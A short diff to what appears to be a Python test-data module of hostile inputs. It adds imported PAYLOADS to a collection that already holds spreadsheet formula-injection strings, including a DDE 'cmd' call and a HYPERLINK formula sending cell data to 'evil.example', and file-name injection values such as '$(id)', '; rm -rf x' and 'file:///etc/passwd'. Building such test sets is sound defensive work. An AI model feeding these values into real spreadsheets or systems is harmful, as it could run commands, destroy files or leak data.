@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from hostile import PAYLOADS
+
 FORMULAS = (
     *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2"),
     *('=HYPERLINK("http://evil.example/?"&A1,"open")', "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "''=1+1", "'plain"),
@@ -104,4 +106,4 @@ NAMES = (
     *("~/x", "$HOME", "`id`", "$(id)", "; rm -rf x", "-rf", "--force", "file:///etc/passwd", "//evil.example/share"),
 )
 """What leads out of a folder where a name becomes a path or a command."""
-ALL = (*FORMULAS, *MARKUP, *STRUCTURE, *NAMES)
+ALL = (*FORMULAS, *MARKUP, *STRUCTURE, *NAMES, *PAYLOADS)
